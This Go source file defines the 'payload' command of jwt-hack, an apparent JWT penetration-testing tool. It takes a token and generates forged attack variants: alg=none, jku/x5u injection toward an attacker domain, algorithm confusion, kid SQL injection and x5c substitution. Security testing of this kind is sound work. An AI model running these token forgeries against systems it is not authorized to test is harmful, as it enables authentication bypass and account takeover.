package cmd

import (
	"fmt"
	"os"

	"github.com/spf13/cobra"

	"github.com/hardwaylabs/jwt-hack/pkg/config"
	"github.com/hardwaylabs/jwt-hack/pkg/logger"
	"github.com/hardwaylabs/jwt-hack/pkg/payload"
	"github.com/hardwaylabs/jwt-hack/pkg/token"
)

var payloadCmd = &cobra.Command{
	Use:   "payload TOKEN",
	Short: "Generate JWT attack payloads",
	Long: `Payload derives attack variants from a token: alg=none, jku/x5u header
injection, RS->HS algorithm confusion, kid injection, x5c chain
substitution and content-type pivots.`,
	Args: cobra.ExactArgs(1),
	RunE: runPayload,
}

func init() {
	rootCmd.AddCommand(payloadCmd)
	payloadCmd.Flags().String("jwk-trust", "", "A domain trusted by the target for jku/x5u (e.g. google.com)")
	payloadCmd.Flags().String("jwk-attack", "", "The attacker-controlled domain for jku/x5u")
	payloadCmd.Flags().String("jwk-protocol", "https", "jku/x5u protocol (http/https)")
	payloadCmd.Flags().String("target", "all", "Payload targets (comma-separated: all,none,jku,x5u,alg_confusion,kid_sql,x5c,cty)")
	payloadCmd.Flags().String("public-key", "", "Server public key PEM for alg_confusion")

	v.BindPFlag("payload.jwk_trust", payloadCmd.Flags().Lookup("jwk-trust"))
	v.BindPFlag("payload.jwk_attack", payloadCmd.Flags().Lookup("jwk-attack"))
	v.BindPFlag("payload.jwk_protocol", payloadCmd.Flags().Lookup("jwk-protocol"))
	v.BindPFlag("payload.target", payloadCmd.Flags().Lookup("target"))
}

func runPayload(cmd *cobra.Command, args []string) error {
	var cfg config.Config
	if err := config.Load(v, &cfg); err != nil {
		return fmt.Errorf("failed to load config: %w", err)
	}

	log := logger.New(logger.ComponentPayload)

	tok, err := token.Decompose(args[0])
	if err != nil {
		return err
	}

	kinds, err := payload.ParseTargets(cfg.Payload.Target)
	if err != nil {
		return err
	}

	opts := payload.Options{
		TrustDomain:  cfg.Payload.JWKTrust,
		AttackDomain: cfg.Payload.JWKAttack,
		Protocol:     cfg.Payload.JWKProtocol,
	}
	if keyPath, _ := cmd.Flags().GetString("public-key"); keyPath != "" {
		pem, err := os.ReadFile(keyPath)
		if err != nil {
			return fmt.Errorf("cannot read public key: %w", err)
		}
		opts.PublicKeyPEM = pem
	}

	payloads, err := payload.Generate(tok, kinds, opts)
	if err != nil {
		return err
	}

	log.Info("Payloads generated", "count", len(payloads))
	for _, p := range payloads {
		fmt.Printf("[%s] %s\n", p.Name, p.Note)
		fmt.Println(p.Token)
		if len(p.Extra) > 0 {
			fmt.Printf("---\n%s\n---\n", p.Extra)
		}
		fmt.Println()
	}
	return nil
}
